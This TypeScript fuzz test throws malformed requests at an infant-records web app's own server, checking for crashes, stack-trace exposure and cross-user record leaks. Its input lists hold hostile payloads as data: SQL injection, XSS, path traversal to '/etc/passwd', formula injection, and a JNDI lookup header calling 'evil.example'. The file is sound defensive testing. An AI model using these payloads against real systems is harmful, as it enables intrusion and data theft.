import { Agent, request } from 'node:http';
import { addressOf, pageRoutes } from '../../scripts/shots/routes.ts';
import { may } from '../../src/lib/domain/access.ts';
import { verify } from '../../src/lib/server/audit/verify.ts';
import * as infants from '../../src/lib/server/db/infants.ts';
import { type Database, openDatabase } from '../../src/lib/server/db/open.ts';
import * as people from '../../src/lib/server/db/people.ts';
import { type Random, seeded } from '../../src/lib/server/demo/random.ts';
import { STAFF, DEMONSTRATION_PEOPLE } from '../../src/lib/server/demo/people.ts';
import { newId, sha256 } from '../../src/lib/server/ids.ts';
import { addressAt, change, ON_POSTGRES, row, rows } from './database.ts';
import { learn, nothingSeen, type Seen } from './fuzz.ts';
import { signedInAs } from './hand.ts';
import { endpoints, serverActions } from './server-actions.ts';

/* Requests that no page would send, by everyone, against the built server: what may never come back. */

export interface Fuzzed {
	requests: number;
	/** How often each status came. */
	statuses: Record<string, number>;
	serverErrors: string[];
	hangs: string[];
	/** Answers that hold a stack, a path of the machine, or a word of the database. */
	stacks: string[];
	/** Answers in which somebody read of an infant who is not theirs. */
	leaks: string[];
	/** The database's own check, and the audit's chains. */
	database: string;
	audit: 'whole' | 'broken';
}

const CANARY = /Zq([0-9a-f]{8})qZ/g;
const STACK = /\bat [\w.<>]+ \(|node_modules|file:\/\/|SQLITE_|SqliteError|\$argon2|\/src\/lib\//;

const canaryOf = (infantId: string) => sha256(infantId).slice(0, 8);

/** Gives every infant of a demonstration a word of its own, in its name: it is found wherever it gets. */
export function plantCanaries(folder: string): void {
	const found = rows<{ id: string }>(
		{ folder },
		'select distinct infant_id as id from infant_facts'
	);
	for (const { id } of found) {
		change(
			{ folder },
			'update infant_facts set name = name || ? where infant_id = ?',
			` Zq${canaryOf(id)}qZ`,
			id
		);
	}
}

/** What was seen on pages, and how many of the first ids are infants. */
type About = Seen & { infants: number };

interface Person {
	name: string;
	id: string | null;
	cookie: string;
	/** Infants this person was ever seen to have a tie to. */
	knows: Set<string>;
}

/** What somebody's own requests would end for all others, and what never answers by itself. */
const LEFT_OUT = /signOut|endRole|giveRole|\/live$/;

export async function fuzzDoors(
	server: { origin: string; folder: string },
	{ requests, seed, hangMs = 2000 }: { requests: number; seed: string; hangMs?: number }
): Promise<Fuzzed> {
	const random = seeded(seed);
	const db = openDatabase(addressAt(server));
	const persons = everyone(server);
	const all = (await db.selectFrom('infant').select('id').execute()).map(({ id }) => id);
	const byCanary = new Map(all.map((id) => [canaryOf(id), id]));
	const seen = nothingSeen();
	for (const id of all) seen.ids.add(id);
	// those come first: most addresses are about one of them
	const about = { ...seen, infants: all.length };
	const fuzzed: Fuzzed = {
		...{ requests: 0, statuses: {}, serverErrors: [], hangs: [], stacks: [], leaks: [] },
		...{ database: '', audit: 'whole' }
	};
	const agent = new Agent({ keepAlive: true, maxSockets: 16 });
	async function one(): Promise<void> {
		while (fuzzed.requests < requests) {
			fuzzed.requests += 1;
			const who = random.pick(persons);
			const asked = anything(who, server.origin, about, random);
			const began = performance.now();
			const answer = await send(server.origin, asked, agent);
			const what = `${who.name}: ${asked.method} ${asked.path.slice(0, 120)}`;
			fuzzed.statuses[answer.status] = (fuzzed.statuses[answer.status] ?? 0) + 1;
			if (answer.status >= 500) fuzzed.serverErrors.push(`${answer.status} ${what}`);
			if (isSignedOut(answer) && asked.headers.cookie === who.cookie) signInAgain(server, who);
			const took = performance.now() - began;
			if (took > hangMs) fuzzed.hangs.push(`${Math.round(took)} ms ${what}`);
			if (STACK.test(answer.text)) fuzzed.stacks.push(`${what}: ${STACK.exec(answer.text)?.[0]}`);
			if (answer.status < 400 && random.chance(0.1)) learn(seen, answer.text);
			for (const [, word = ''] of answer.text.matchAll(CANARY)) {
				const infantId = byCanary.get(word);
				if (infantId && !(await knows(db, who, infantId)))
					fuzzed.leaks.push(`${what}: ${infantId}`);
			}
		}
	}
	await Promise.all(Array.from({ length: 12 }, one));
	agent.destroy();
	fuzzed.audit = (await verify(db)).some(({ kind }) => kind === 'broken') ? 'broken' : 'whole';
	await db.destroy();
	// A server checks its pages as it reads them; a file is asked.
	fuzzed.database = ON_POSTGRES
		? 'ok'
		: row<{ integrity_check: string }>(server, 'pragma integrity_check(1)').integrity_check;
	return fuzzed;
}

function everyone(server: { origin: string; folder: string }): Person[] {
	const { grace, suzuki, tomasz, ana } = STAFF;
	const ids = Object.entries({ ...DEMONSTRATION_PEOPLE, grace: grace.id, suzuki: suzuki.id });
	const more = [...ids, ['tomasz', tomasz.id], ['ana', ana.id]] as [string, string][];
	const signedIn = more.map(([name, id]) => ({
		...{ name, id, cookie: signedInAs(server, id).cookie, knows: new Set<string>() }
	}));
	return [...signedIn, { name: 'nobody', id: null, cookie: '', knows: new Set<string>() }];
}

/** Some requests end the sign-in they come with; the next ones shall be somebody's again. */
function signInAgain(server: { origin: string; folder: string }, who: Person): void {
	if (who.id !== null) who.cookie = signedInAs(server, who.id).cookie;
}

const isSignedOut = ({ status, location }: Answer) =>
	status === 303 && (location === '/' || location.startsWith('/sign-in'));

/** Whether somebody may know of an infant: a tie, or a twin whose tie they have. Once known is known. */
async function knows(
	db: Database,
	{ id, knows: known }: Person,
	infantId: string
): Promise<boolean> {
	if (known.has(infantId)) return true;
	const person = id === null ? undefined : await people.standing(db, id, new Date().toISOString());
	if (!person) return false;
	const facts = await infants.facts(db, infantId);
	const twins = facts ? await infants.siblingsOf(db, facts) : [];
	for (const one of [infantId, ...twins.map((twin) => twin.infantId)]) {
		const relation = infants.relationFrom(one, await infants.stays(db, one));
		if (may(person, 'see consent state', relation).allowed) known.add(infantId);
	}
	return known.has(infantId);
}

interface Answer {
	status: number;
	text: string;
	location: string;
}

interface Asked {
	method: string;
	path: string;
	headers: Record<string, string | string[]>;
	body: string | Buffer;
}

/** A request made up of what was seen on pages and of what no page holds. */
function anything(who: Person, origin: string, seen: About, random: Random): Asked {
	const writes = random.chance(0.5);
	const routes = writes ? WRITABLE : READABLE;
	const route = random.pick(routes);
	const path = random.chance(0.06) ? garbagePath(random) : pathOf(route, seen, random);
	const body = writes ? anyBody(route, seen, random) : { type: '', body: '' };
	const other = random.chance(0.04)
		? random.pick(['PUT', 'DELETE', 'OPTIONS', 'HEAD', 'PATCH'])
		: null;
	const headers: Asked['headers'] = {
		accept: random.pick(['text/html', '*/*', 'application/json', ''])
	};
	if (body.type) headers['content-type'] = body.type;
	if (writes)
		headers.origin = random.chance(0.9) ? origin : random.pick(['null', 'https://evil.example']);
	if (random.chance(0.15)) headers['x-sveltekit-action'] = 'true';
	if (random.chance(0.1))
		headers['x-sveltekit-invalidated'] = random.pick(['1', '011', 'x', '1'.repeat(50)]);
	if (random.chance(0.1)) Object.assign(headers, random.pick(ODD_HEADERS));
	const cookie = anyCookie(who, random);
	if (cookie) headers.cookie = cookie;
	return { method: other ?? (writes ? 'POST' : 'GET'), path, headers, body: body.body };
}

const READABLE = [
	...pageRoutes().flatMap((route) => [route, route, `${route === '/' ? '' : route}/__data.json`]),
	...endpoints()
].filter((route) => !LEFT_OUT.test(route));
const WRITABLE = serverActions()
	.map((action) => action.replace(/^POST /, ''))
	.filter((action) => !LEFT_OUT.test(action));

const ODD_HEADERS: Record<string, string>[] = [
	{ 'accept-language': 'x'.repeat(4000) },
	{ 'x-forwarded-for': "1.2.3.4, '; drop table person;--" },
	{ 'x-forwarded-proto': 'https', 'x-forwarded-host': 'evil.example' },
	{ range: 'bytes=0-1,3-4' },
	{ 'if-none-match': '*' },
	{ 'accept-encoding': 'br;q=0, gzip;q=x, *' },
	{ expect: 'nothing' },
	{ referer: 'https://evil.example/Amara' },
	{ 'user-agent': '${jndi:ldap://evil.example}' },
	{ 'last-event-id': '99999999999999999999' },
	{ 'content-encoding': 'gzip' }
];

const ODD_VALUES = [
	...['', ' ', '0', '-1', '1e309', 'NaN', 'null', 'undefined', '[object Object]', 'true', '\u0000'],
	...[
		'\ud83d',
		'\u202eevil',
		'ﷺ'.repeat(50),
		'İi̇ß',
		'𝟙𝟠𝟘𝟘',
		'１８００',
		'9'.repeat(400),
		'../../etc/passwd'
	],
	...[
		"' or 1=1;--",
		'<script>alert(1)</script>',
		'{{7*7}}',
		'%00',
		'%',
		'=cmd|x',
		'{"a":{"b":[]}}'
	],
	...[
		'2026-02-30',
		'2026-11-29T25:61',
		'0000-00-00',
		'9999-12-31',
		'24:00',
		'-0',
		'0x10',
		'1,2,3',
		'١٨٠٠'
	],
	...['a'.repeat(3000), 'é'.repeat(9000), '[['.repeat(300)]
];

function anyValue(name: string, { values, ids }: Seen, random: Random): string {
	// A name that somebody else's page held is not typed: who types it would read it back.
	const known = [...(values.get(name) ?? [])].filter((value) => value.search(CANARY) < 0);
	if (/(^|-)id$/i.test(name) && random.chance(0.5)) return newId();
	if (known.length > 0 && random.chance(0.6)) return random.pick(known);
	if (random.chance(0.25)) return random.pick([...ids]);
	return random.pick(ODD_VALUES);
}

function pathOf(route: string, seen: About, random: Random): string {
	const [bare = '', query] = route.split('?');
	const ids = [...seen.ids];
	const id = () =>
		random.chance(0.85)
			? random.pick(ids)
			: escaped(random.pick(['x', newId(), ...ODD_VALUES.slice(0, 12)])) || 'x';
	const infant = () => (random.chance(0.7) ? random.pick(ids.slice(0, seen.infants)) : id());
	const filled = addressOf(bare, {
		...{ id: infant(), sessionId: id(), weightId: id(), measurementId: id(), decisionId: id() }
	})!;
	const asked = Array.from({ length: random.chance(0.3) ? random.whole(1, 4) : 0 }, () => {
		const name = random.pick([
			'from',
			'before',
			'after',
			'twin',
			'as',
			'days',
			'root',
			'__proto__',
			'x[y]',
			'person',
			'act'
		]);
		return `${encodeURIComponent(name)}=${escaped(anyValue(name, seen, random))}`;
	});
	const all = [...(query ? [query] : []), ...asked].join('&');
	return (filled + (all ? `?${all}` : '')).slice(0, 8000);
}

/** Lone surrogates cannot be written in an address. */
const escaped = (value: string) => encodeURIComponent(value.toWellFormed());

const garbagePath = (random: Random) =>
	random.pick([
		...[
			'/%',
			'/%ff',
			'//',
			'/..%2f..%2fetc/passwd',
			'/_app/../x',
			'/infants/%00',
			'/.git/config',
			'/\\'
		],
		...[
			'/__data.json',
			'/infants/__data.json?x-sveltekit-invalidated=zz',
			`/${'a/'.repeat(500)}`,
			'/INFANTS',
			'/?/'
		],
		...[
			'/?/__proto__',
			'/?/constructor',
			'/sign-in?/toString',
			'/_app/immutable/%2e%2e/',
			'/health?x=%'
		]
	]);

function anyBody(
	route: string,
	seen: Seen,
	random: Random
): { type: string; body: string | Buffer } {
	const FORM = 'application/x-www-form-urlencoded';
	const last = /\?\/\w+/.exec(route)?.[0] ?? route;
	const own = seen.forms.get(last);
	const forms =
		own && random.chance(0.9) ? [...own] : [...seen.forms.values()].flatMap((set) => [...set]);
	const [version = 'x/1', ...names] = forms.length > 0 ? random.pick(forms).split(' ') : [];
	const pairs = names
		.filter(() => random.chance(0.95))
		.map((name): [string, string] => [
			name,
			name === 'form' ? version : anyValue(name, seen, random)
		]);
	if (random.chance(0.15)) pairs.push(...pairs.slice(0, 3));
	if (random.chance(0.1))
		pairs.push([random.pick(['__proto__', 'a[b][c]', 'constructor', 'x'.repeat(200)]), 'x']);
	const form = pairs.map((pair) => pair.map(escaped).join('=')).join('&');
	if (random.chance(0.75)) return { type: FORM, body: form };
	return random.pick([
		{ type: 'application/json', body: JSON.stringify(Object.fromEntries(pairs)) },
		{ type: 'application/json', body: '['.repeat(3000) },
		{ type: FORM, body: `${form}&${'a=1&'.repeat(3000)}` },
		{ type: FORM, body: `x=${'y'.repeat(70_000)}` },
		{ type: FORM, body: Buffer.from([0xff, 0xfe, 0x00, 0x3d, 0x80]) },
		{ type: FORM, body: `${form}%%%=%zz` },
		{
			type: 'multipart/form-data; boundary=x',
			body: `--x\r\nContent-Disposition: form-data; name="form"\r\n\r\n${version}\r\n--x`
		},
		{ type: 'multipart/form-data', body: form },
		{ type: 'text/plain', body: form },
		{ type: '', body: form }
	]);
}

function anyCookie({ cookie }: Person, random: Random): string {
	if (random.chance(0.85)) return cookie;
	const junk = random.pick(['x', 'a'.repeat(3000), '%', '"', newId(), 'nestling_session', '=;=']);
	return random.pick([
		`nestling_session=${junk.replace(/[^\x20-\x7e]/g, '')}`,
		`${cookie}; nestling_session=${junk}`,
		`${cookie}; nestling_ward=${junk}; nestling_step=${junk}; nestling_device=${junk}`,
		`theme=${junk}; ${cookie}; nestling_live=${junk}`
	]);
}

function send(origin: string, asked: Asked, agent: Agent): Promise<Answer> {
	const { hostname, port } = new URL(origin);
	return new Promise((resolve) => {
		const { method, path, headers, body } = asked;
		const sized = { ...headers, 'content-length': String(Buffer.byteLength(body)) };
		const outgoing = request({ hostname, port, method, path, headers: sized, agent }, (answer) => {
			let text = '';
			answer.setEncoding('utf8').on('data', (part: string) => (text += part));
			const { statusCode: status = 0, headers: told } = answer;
			answer.on('end', () => resolve({ status, text, location: told.location ?? '' }));
			answer.on('error', () => resolve({ status: 0, text, location: '' }));
		});
		// A body that is refused is not always read to its end.
		outgoing.on('error', () => resolve({ status: 0, text: '', location: '' }));
		outgoing.setTimeout(20_000, () => outgoing.destroy());
		outgoing.end(body);
	});
}
